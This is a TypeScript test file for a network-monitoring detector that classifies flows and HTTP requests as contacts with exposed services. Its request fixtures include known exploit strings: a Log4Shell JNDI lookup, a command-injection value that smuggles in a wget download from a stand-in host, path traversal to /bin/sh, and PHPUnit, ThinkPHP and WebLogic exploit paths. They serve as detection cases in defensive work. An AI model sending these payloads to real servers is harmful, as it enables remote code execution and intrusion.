import { describe, expect, it } from 'vitest'
import type { Event, EventOf } from '../event/event.ts'
import { ServiceContacts } from './service-contacts.ts'

const T = Date.UTC(2026, 4, 12)
const origin = { source: 'x', file: 'f', offset: 0, raw: 'x' }

function flow(change: Partial<EventOf<'flow'>> = {}): Event {
  return {
    kind: 'flow',
    time: T + 1000,
    timeQuality: 'exact',
    observer: 'ip:203.0.113.9',
    subjects: ['ip:203.0.113.9', 'ip:10.0.3.17'],
    origin,
    communityId: '1:x',
    transport: 'tcp',
    srcIp: '203.0.113.9',
    srcPort: 40_000,
    dstIp: '10.0.3.17',
    dstPort: 6379,
    start: T,
    packetsOut: 6,
    packetsIn: 5,
    bytesOut: 500,
    bytesIn: 400,
    isHandshakeSeen: true,
    ...change,
  }
}

function request(change: Partial<EventOf<'http'>>): Event {
  return {
    kind: 'http',
    time: T,
    timeQuality: 'exact',
    observer: 'host:web-1',
    subjects: ['host:web-1'],
    origin,
    role: 'server',
    srcIp: '203.0.113.9',
    srcHost: null,
    dstIp: null,
    dstPort: null,
    user: null,
    method: 'GET',
    host: null,
    path: '/',
    query: null,
    protocol: null,
    status: 200,
    bytes: 10,
    seconds: null,
    referrer: null,
    userAgent: 'curl/8.5.0',
    ...change,
  }
}

function kindsOf(...events: readonly Event[]): string[] {
  const contacts = new ServiceContacts((port) => (port === 6379 ? 'redis' : null))
  for (const event of events) contacts.observe(event)
  return contacts.between(['ip:10.0.3.17', 'host:web-1'], T - 1000, T + 5000).map(({ kind }) => kind)
}

describe('contacts with services', () => {
  it.each([
    ['an open port that answers somebody outside', flow(), ['redis']],
    ['the same from inside', flow({ srcIp: '10.0.0.9' }), []],
    ['a port that is no door', flow({ dstPort: 443 }), []],
    ['one that a filter stopped', flow({ isRejected: true }), []],
    ['one that answered with nothing but signs of life', flow({ packetsIn: 2, bytesIn: 104 }), []],
  ])('%s', (_what, event, kinds) => {
    expect(kindsOf(event)).toEqual(kinds)
  })

  it.each([
    ['/index.php', 'id=1', 'GET', null],
    ['/search', 'q=bash+tutorial', 'GET', null],
    ['/blog/how-to-install-curl', null, 'GET', null],
    ['/api/files', 'path=docs/readme', 'GET', null],
    ['/', 'x=${jndi:ldap://198.51.100.4/a}', 'GET', 'web-exploit'],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', null, 'POST', 'web-exploit'],
    ['/cgi-bin/.%2e/.%2e/bin/sh', null, 'POST', 'web-exploit'],
    ['/ping', 'host=127.0.0.1;wget+http://198.51.100.4/x', 'GET', 'web-exploit'],
    ['/index.php', 's=/index/think%5Capp/invokefunction&function=call_user_func_array', 'GET', 'web-exploit'],
    ['/wls-wsat/CoordinatorPortType', null, 'POST', 'web-exploit'],
    ['/wls-wsat/CoordinatorPortType', null, 'GET', null],
    ['/api/orders', null, 'POST', null],
    ['/v1.41/containers/create', null, 'POST', 'docker-api'],
    ['/v1.41/containers/json', null, 'GET', null],
  ])('a request for %s?%s', (path, query, method, kind) => {
    expect(kindsOf(request({ path, query, method }))).toEqual(kind === null ? [] : [kind])
  })

  it('keeps a bound per machine', () => {
    const many = Array.from({ length: 2000 }, (_, at) => flow({ start: T + at / 10 }))
    expect(kindsOf(...many).length).toBeLessThanOrEqual(512)
  })
})
